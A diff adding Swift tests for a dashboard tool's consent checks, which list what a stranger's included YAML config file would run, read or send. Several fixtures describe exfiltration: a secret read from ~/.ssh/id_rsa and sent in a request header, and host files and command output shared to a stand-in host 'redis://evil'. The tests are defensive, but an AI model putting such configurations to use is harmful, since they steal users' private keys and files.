@@ -1,0 +1,141 @@
+import BoardFiles
+import Testing
+
+/// Boards of which some files are the user's own and some are not.
+@Suite(.timeLimit(.minutes(5)))
+struct MixedConsentTests {
+
+    /// What is asked for if those files are a stranger's.
+    private func texts(_ files: [String: String], foreign: String...) throws -> [String] {
+        let (read, problems) = readBoard(files, environment: ["KEY": "value", "HOME": "/home/me"])
+        #expect(problems.isEmpty, "\(problems)")
+        var board = try #require(read)
+        #expect(foreign.allSatisfy(board.files.contains))
+        board.foreignFiles = Set(foreign)
+        return board.consent.items.map(\.text)
+    }
+
+    @Test("Of an own board with a stranger's file, what that file does is asked for")
+    func included() throws {
+        let files = [
+            "board.yaml": """
+            include: more.yaml
+            sources: { a: { command: mine }, b: { http: "http://localhost/" } }
+            keys: { x: { run: mine } }
+            """,
+            "more.yaml": """
+            sources: { c: { command: theirs }, d: { http: "http://nas/" }, e: { file: /x, alert: { failed: 1, run: say } } }
+            keys: { y: { run: theirs } }
+            secrets: { s: { command: pass } }
+            """,
+        ]
+        #expect(
+            try texts(files, foreign: "more.yaml") == [
+                "source: theirs", "key y: theirs", "alert: say", "secret s: pass",
+                "GET http://nas/ (a private network)", "s from its command, not used",
+            ])
+    }
+
+    @Test("A stranger's source that uses an own or shipped recipe is asked for, with the recipe's own lines")
+    func recipe() throws {
+        let files = [
+            "board.yaml": "include: more.yaml\nsources: { a: { use: r, with: { word: x } } }",
+            "more.yaml": "sources: { b: { use: r, with: { word: y } } }",
+            "recipes/r.yaml": "parameters: { word: {} }\nsource: { command: [run, \"${parameter.word}\"] }",
+        ]
+        #expect(try texts(files, foreign: "more.yaml") == ["source (no shell): run y"])
+        #expect(try texts(files, foreign: "recipes/r.yaml").count == 2)
+    }
+
+    @Test("A secret is asked for where a stranger defines it, and where a stranger uses it")
+    func secrets() throws {
+        let files = [
+            "board.yaml": """
+            include: more.yaml
+            secrets: { own: { env: KEY } }
+            sources: { a: { http: "https://a.example/", headers: { X: "${secret.theirs}", Y: "${secret.own}" } } }
+            """,
+            "more.yaml": """
+            secrets: { theirs: { file: ~/.ssh/id_rsa } }
+            sources: { b: { http: "https://b.example/?${secret.own}" } }
+            """,
+        ]
+        #expect(
+            try texts(files, foreign: "more.yaml") == [
+                "theirs from file ~/.ssh/id_rsa → https://a.example, header X",
+                "own from variable KEY → https://b.example, in the URL",
+            ])
+    }
+
+    @Test(
+        "A store that a stranger sets is asked for with all that it takes, and an own one with what the stranger gives")
+    func store() throws {
+        let own = "sources: { a: { file: /etc/hosts, share: true }, b: { command: who, share: true } }"
+        let place = "redis://evil:6379 (not encrypted)"
+        #expect(
+            try texts(
+                [
+                    "board.yaml": "include: more.yaml\n\(own)",
+                    "more.yaml": "share: redis://evil\nsources: { x: { file: /x } }",
+                ],
+                foreign: "more.yaml") == [
+                    "\(place): what public servers answer without a secret", "\(place): file /etc/hosts",
+                    "\(place): output of: who",
+                ])
+        #expect(
+            try texts(
+                [
+                    "board.yaml": "include: more.yaml\nshare: redis://evil\n\(own)",
+                    "more.yaml": "sources: { x: { file: /x, share: true } }",
+                ], foreign: "more.yaml") == ["\(place): file /x"])
+    }
+
+    @Test("Defaults that a stranger's file gives to an own one are part of the sources that they share")
+    func defaults() throws {
+        let files = [
+            "board.yaml": "include: theirs.yaml\nshare: redis://evil\nsources: { x: { file: /x } }",
+            "theirs.yaml": "include: own.yaml\ndefaults: { share: as team }",
+            "own.yaml": """
+            secrets: { s: { env: KEY } }
+            sources: { a: { http: "https://a.example/", headers: { X: "${secret.s}" } } }
+            """,
+        ]
+        #expect(
+            try texts(files, foreign: "theirs.yaml").contains(
+                "redis://evil:6379 (not encrypted): as team, response of https://a.example/"))
+    }
+
+    @Test("On a stranger's board, own commands that work in the board's folder are asked for, too")
+    func folder() throws {
+        let files = [
+            "board.yaml": "include: own.yaml\nsources: { x: { file: /x } }",
+            "own.yaml": """
+            secrets: { s: { command: ./secret.sh }, t: { file: t.txt } }
+            sources:
+              a: { command: ./status.sh }
+              b: { command: [uptime], folder: / }
+              c: { http: "http://localhost/", unix: x.sock }
+              d: { http: "http://localhost/", unix: /x.sock }
+              e: { http: "https://a.example/", headers: { X: "${secret.s}", Y: "${secret.t}" } }
+            keys: { x: { run: ./go.sh } }
+            """,
+        ]
+        #expect(
+            try texts(files, foreign: "board.yaml") == [
+                "source: ./status.sh", "key x: ./go.sh", "secret s: ./secret.sh",
+                "GET to ./x.sock: / (http://localhost)", "s from its command → https://a.example, header X",
+                "t from file ./t.txt → https://a.example, header Y",
+            ])
+    }
+
+    @Test("A name that is there already is a mistake, so that no file takes the place of what another one says")
+    func names() {
+        for text in ["secrets: { s: { env: A } }", "sources: { a: { command: theirs } }"] {
+            let files = [
+                "board.yaml": "include: more.yaml\nsecrets: { s: { env: KEY } }\nsources: { a: { command: mine } }",
+                "more.yaml": text,
+            ]
+            #expect(!readBoard(files).problems.isEmpty)
+        }
+    }
+}
